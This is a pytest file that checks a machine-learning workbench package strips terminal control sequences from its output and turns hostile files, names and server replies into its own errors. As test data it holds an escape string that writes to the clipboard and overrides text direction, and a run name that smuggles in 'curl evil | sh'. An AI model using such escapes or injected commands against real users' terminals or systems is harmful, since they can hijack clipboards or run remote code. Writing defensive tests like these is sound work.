"""What is shown of a stranger's files, in a terminal too: text without commands to it, and our own errors soon."""

from __future__ import annotations

import json
import os
import resource
import sqlite3
import unicodedata
from collections.abc import Iterator
from concurrent import futures
from contextlib import closing
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

import workbench as wb
from tests.attacks.hostile import replaced
from tests.attacks.test_files import META, soon
from tests.attacks.test_writing import journal
from tests.played import checkpoint_in, rolled_out
from tests.test_checkpoint_anatomy import written as checkpoint_of
from tests.widgets import recorded, swept
from workbench import checkpoints
from workbench.cli.commands import run as command
from workbench.errors import ConnectionLost, InvalidInput, StorageFailed, WorkbenchError, error_of, printable
from workbench.metrics import MetricsReader, MetricsWriter
from workbench.metrics.history import History
from workbench.playing import film, store
from workbench.playing.evaluating import evaluation_log
from workbench.playing.evaluating.evaluation import Evaluation
from workbench.rundir import RunDirectory
from workbench.sweeping.objective import MetricCurve
from workbench.widgets.panel import snapshot
from workbench.wire import grpc
from workbench.wire.rpc import Caller, _Methods

EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b[31m\u202e\x9b2J\r"  # writes to the clipboard, colours, turns, clears, overwrites


def harmless(text: str) -> bool:
    return not [one for one in text if one not in "\n\t" and unicodedata.category(one) in ("Cc", "Cs")
                or one in "\u202e\u2066\u2028"]  # fmt: skip


@pytest.fixture
def bad(home: Path) -> RunDirectory:
    run = recorded.vtrace("bad")
    run.write(state="stopped")
    return run


def test_no_error_holds_a_command_to_a_terminal() -> None:
    for error in (StorageFailed(EVIL), InvalidInput(f"a\n\tb{EVIL}"),
                  *(error_of({"type": kind, "message": EVIL}) for kind in ("RunFailed", EVIL))):
        assert harmless(str(error)) and "52;c;" in str(error)
    assert str(InvalidInput("a\n\tb")) == "a\n\tb"


def test_no_handle_shows_a_command_to_a_terminal(home: Path, tmp_path: Path) -> None:
    run = recorded.vtrace("plain")
    run = RunDirectory(run.path.rename(run.path.with_name(EVIL)))
    sweep = swept.by_hand("theirs")
    record = json.loads((sweep.path / "sweep.json").read_text())
    replaced(sweep.path / "sweep.json", json.dumps({**record, "metric": EVIL, "state": "failed",
                                                    "error": {"type": "x", "message": EVIL}}))
    (sweep.path / "sweep.log").write_text(f"a line\n{EVIL}")
    sweep = wb.attach_sweep("theirs")
    played = rolled_out(checkpoint_in(tmp_path / "made", "CartPole-v1"), tmp_path / "played", max_steps=5)
    told = json.loads((played.path / "rollout.json").read_text())
    (played.path / "rollout.json").write_text(json.dumps({**told, "environment": EVIL}))
    shown = (wb.attach(run.path), sweep, sweep.status, wb.rollout(played.path),
             Evaluation(EVIL, tmp_path, 0, 0, True, (1.0,), (1,)), wb.runs(), wb.sweeps())
    for one in shown:
        assert harmless(repr(one)) and "52;c;" in repr(one), type(one)
    assert harmless(sweep.log) and "a line\n" in sweep.log


def test_no_table_shows_a_command_to_a_terminal(bad: RunDirectory, tmp_path: Path) -> None:
    with closing(MetricsWriter(bad.metrics)) as writer:
        writer.event("error", EVIL)
    checkpoint = checkpoint_of(tmp_path, {f"layer {EVIL}": np.ones((2, 2), np.float32)})
    tables = (wb.attach("bad").events, swept.by_hand("theirs", note=EVIL).table, checkpoint.layers())
    with pd.option_context("display.max_columns", None, "display.max_colwidth", None, "display.width", None):
        for table in tables:
            assert harmless(repr(table)) and "52;c;" in repr(table), table.columns


def test_the_command_line_prints_no_command_to_a_terminal(
    bad: RunDirectory, capsys: pytest.CaptureFixture[str]
) -> None:
    with closing(MetricsWriter(bad.metrics)) as writer:
        writer.status({"hint": EVIL, "warning": EVIL, "reason": EVIL})
    bad.write(error={"type": EVIL, "message": f"first\n{EVIL}"}, state="failed")
    sweep = swept.by_hand("theirs", note=EVIL)
    for words in (["status", "bad"], ["runs"], ["card", "bad"], ["sweeps"], ["sweeps", "theirs"], ["tune", "bad", EVIL],
                  ["resume", EVIL], ["evaluate", "bad"], ["checkpoints", "bad"], ["events", "bad"],
                  ["stop", "bad"]):  # fmt: skip
        command(words)
        said = capsys.readouterr()
        assert harmless(said.out + said.err), words
    assert sweep.name == "theirs"


NAMES = [b"bad\xff\xfe", b"bad\nnext line", "bad\u202e".encode(), b"bad; curl evil | sh", b"--help", b"-x",
         b"a%41?b#c"]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_run_and_a_sweep_of_any_name_are_shown_and_hide_no_other(home: Path, name: bytes) -> None:
    from workbench.widgets.panel.panel import RunPanel
    from workbench.widgets.views.runs_table import RunsTable

    recorded.vtrace("good")
    run, sweep = recorded.vtrace("plain"), swept.by_hand("theirs")
    for path in (run.path, sweep.path):
        os.rename(path, os.path.join(os.fsencode(path.parent), name))
    run = RunDirectory(run.path.with_name(os.fsdecode(name)))
    rows = wb.runs()
    assert "good" in repr(rows) and run.name in {row.name for row in rows}
    assert os.fsdecode(name) in {row.name for row in wb.sweeps()}
    handle = wb.attach(run.path)
    assert repr(wb.compare([run.path, "good"]).differences)  # data as it is, not text for a terminal
    for shown in (rows, wb.sweeps(), handle, handle.card(), handle.status,
                  wb.attach_sweep(sweep.path.with_name(os.fsdecode(name)))):
        repr(shown).encode()
        getattr(shown, "_repr_html_", str)().encode(errors="surrogateescape")
    for widget in (RunsTable({"text/plain": ""}), RunPanel(handle)):
        try:
            json.dumps(repr(widget.get_state() if hasattr(widget, "get_state") else widget))
        finally:
            widget.close()


ODD = (None, "x", [], {}, -1, 1.5, True, 10**300, float("nan"))


@pytest.mark.parametrize("field", ["checkpoint_frames", "seed", "greedy", "lengths", "protocol", "differs", "scores",
                                   "environment", "checkpoint"])  # fmt: skip
def test_an_evaluation_of_odd_fields_is_shown_or_left_out(bad: RunDirectory, field: str) -> None:
    line = {"evaluation": {"environment": "ALE/Pong-v5", "returns": [1.0] * 6, "lengths": [1] * 6, "checkpoint": "1",
                           "checkpoint_frames": 1, "seed": 0, "greedy": True, "protocol": "noop-starts"},
            "time": 0.0, "created": 0.0, "updates": 1, "time_s": 1.0}
    for odd in ODD:
        told = [json.dumps({**line, "evaluation": {**line["evaluation"], field: odd}}), json.dumps(line)]
        (bad.path / evaluation_log.FILE).write_text("\n".join(told))
        with soon():
            assert wb.attach("bad").card().markdown
        kept = evaluation_log.kept(bad)
        assert kept and kept[-1].evaluation.protocol == "noop-starts"
        repr(kept[0].evaluation)
    for field_of_entry in ("time", "created", "updates", "time_s"):
        for odd in ODD[:4]:
            (bad.path / evaluation_log.FILE).write_text(json.dumps({**line, field_of_entry: odd}))
            assert evaluation_log.kept(bad) == []


@pytest.mark.parametrize("created", [2.0**53, -(2.0**53), 1e12, -1e12, 0, 253402300800])
def test_a_run_of_any_age_has_a_card(bad: RunDirectory, created: float) -> None:
    bad.write(created=created)
    with soon():
        assert wb.attach("bad").card().markdown and wb.runs()["bad"].state == "stopped"


def test_an_event_of_nested_data_is_shown(bad: RunDirectory) -> None:
    for depth in (90, 300, 600):
        data = '{"a":' * depth + "1" + "}" * depth
        with closing(sqlite3.connect(bad.metrics)) as connection:
            connection.execute("INSERT INTO events (time, kind, message, data) VALUES (1, 'tune', 'm', ?)", (data,))
            connection.commit()
        for look in (lambda: repr(wb.attach("bad").events), lambda: wb.attach("bad").events._repr_html_(),
                     lambda: wb.attach("bad").card().markdown):
            with soon():
                try:
                    assert look()
                except WorkbenchError:
                    continue


def test_layers_that_are_named_often_or_have_many_rows_are_read_soon(bad: RunDirectory) -> None:
    large = np.ones((2_000_000, 1), np.int8)
    made = checkpoints.write(
        bad.checkpoints, frames=1, requested=True, meta={**META, "trained": ["weight"] * 100_000},
        groups={"model": {"weight": large}, "optimizer": {"0.exp_avg_sq": np.ones((5, 5), np.float32)}})
    with soon():
        table = made.layers()
    assert list(table.index) == ["weight"] and table["dead_units"].tolist() == [0.0]


def test_differences_of_any_numbers_are_a_table(bad: RunDirectory) -> None:
    numbers = np.array([np.nan, np.inf, -np.inf, 1.7e308, -1.7e308, 5e-324])
    arrays = {"a": numbers, "b": np.zeros((3, 0, 5)), "c": np.array(True), "d": np.array([2**64 - 1], np.uint64),
              "e": np.ones((1,) * 32, np.int8), "f": np.float16([6e4]), "\x1b[31m": np.ones(2), "": np.ones(1)}
    made = [checkpoints.write(bad.checkpoints, frames=at, requested=True, meta=META, groups={"model": group})
            for at, group in enumerate((arrays, {**arrays, "a": numbers[::-1], "x": np.ones(3)}))]
    with soon(), np.errstate(all="ignore"):
        assert len(made[0].diff(made[1])) == 9 and len(made[1].diff(made[0])) == 9 and len(made[0].layers()) == 8


def frames_of(shapes: list[tuple[int, int]]) -> Iterator[Any]:
    return (np.zeros((*shape, 3), np.uint8) for shape in shapes)


@pytest.mark.parametrize("kind", ["gif", "mp4"])
def test_a_film_of_odd_frames_is_our_own_error_and_takes_no_memory(tmp_path: Path, kind: str) -> None:
    with soon(), pytest.raises(StorageFailed, match="its frames are of"):
        film.save(frames_of([(40, 40), (50, 40)]), tmp_path / f"a.{kind}", fps=10.0)
    assert max(film._enlarged(next(frames_of([(1, 4096)]))).shape) <= 4096
    with soon():
        film.save(frames_of([(2, 4096)] * 3), tmp_path / f"b.{kind}", fps=10.0)
    assert [path.name for path in tmp_path.iterdir()] == [f"b.{kind}"]


def test_a_film_is_written_through_no_link(tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("dear to me")
    (tmp_path / "shared").mkdir()
    for name in (".a.writing.gif", ".a.gif", "a.gif"):
        (tmp_path / "shared" / name).symlink_to(tmp_path / "mine")
    film.save(frames_of([(40, 40)] * 2), tmp_path / "shared" / "a.gif", fps=10.0)
    assert (tmp_path / "mine").read_text() == "dear to me"


def test_a_journal_of_long_options_or_lines_is_our_own_error(home: Path, tmp_path: Path) -> None:
    with soon(), pytest.raises(InvalidInput, match="too long"):
        wb.play(journal(tmp_path / "x.begun", options={"a": "x" * 200_000}))
    path = Path(journal(tmp_path / "y.begun"))
    path.write_text(path.read_text().splitlines()[0] + "\n[" + "[]," * (2**24) + "[]]\n")
    with soon():
        assert store.read_journal(path)[1] == []


@pytest.mark.parametrize("answer", [b"", b"{", b"[]", b"7", b'{"error": 1}', b'{"error": {}}', b"[" * 100_000,
                                    b'{"error": {"type": [], "message": {}}}', b'{"error": {"type": "nearest", '
                                    b'"message": "m"}}'], ids=lambda answer: f"{answer!r:.30}")  # fmt: skip
def test_a_server_that_answers_anything_is_our_own_error(tmp_path: Path, answer: bytes) -> None:
    class Hostile(_Methods):
        def service(self, details: grpc.HandlerCallDetails) -> Any:
            return grpc.unary_unary_rpc_method_handler(lambda request, context: answer)

    server = grpc.server(futures.ThreadPoolExecutor(1), handlers=[Hostile("", {}, {}, most_streams=1)])
    server.add_insecure_port(f"unix:{tmp_path}/s")
    server.start()
    try:
        with closing(Caller(f"unix:{tmp_path}/s", "token")) as caller, soon(), pytest.raises(WorkbenchError) as refused:
            caller.call("status", timeout_s=20.0)
        assert isinstance(refused.value, ConnectionLost) or b'"type": ' in answer
    finally:
        server.stop(0).wait()


def test_text_that_is_plain_stays_as_it_is() -> None:
    for text in ("", "ümläut → ∕ 漢字", "a\n\tb", "{}<>&"):
        assert printable(text) == text




@pytest.mark.filterwarnings("error::RuntimeWarning")
@pytest.mark.parametrize("sql", [
    "update metrics set row = row * 1000000000000", "update metrics set row = 9223372036854775807 - row",
    "update metrics set row = -1 - row", "update metrics set row = row || 'x'", "update metrics set row = row + 0.5",
    "delete from metrics where row between 50 and 60", "delete from metrics where row < 5", "delete from metrics",
    "delete from rollups", "update rollups set low_row = 1e300, high_row = -1", "update rollups set low_row = 'x'",
    "update rollups set number = 'x', total = x'ff'", "update metrics set value = 'x'", "update names set id = id + 99",
    "update metrics set frames = 9e300", "update metrics set time_s = -1e300, value = 9e999",
])  # fmt: skip
def test_a_history_with_rows_of_any_number_is_shown_or_refused(bad: RunDirectory, sql: str) -> None:
    with closing(MetricsWriter(bad.metrics)) as writer:
        for at in range(121, 3000):
            writer.scalars(recorded.at(at), {"loss": float(at)})
    with closing(sqlite3.connect(bad.metrics)) as connection:
        connection.execute(sql)
        connection.commit()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    curve, history = MetricCurve(bad, "loss", 10_000), History(bad.metrics, most_points=100)
    looks = (curve.follow, lambda: history.series(["loss", "entropy"]), lambda: snapshot.read(bad),
             lambda: wb.attach("bad").card().markdown, lambda: wb.attach("bad").metrics("loss"),
             lambda: MetricsReader(bad.metrics).series("loss", max_points=20), lambda: written(bad))
    for look in looks:
        with soon():
            try:
                look()
                look()
            except WorkbenchError:
                continue
    assert {row.name for row in wb.runs()} == {"bad"}
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 1_000_000  # in kB


def written(run: RunDirectory) -> None:
    with closing(MetricsWriter(run.metrics)) as writer:
        for at in range(3000, 3100):
            writer.scalars(recorded.at(at), {"loss": 1.0})
        writer.commit()
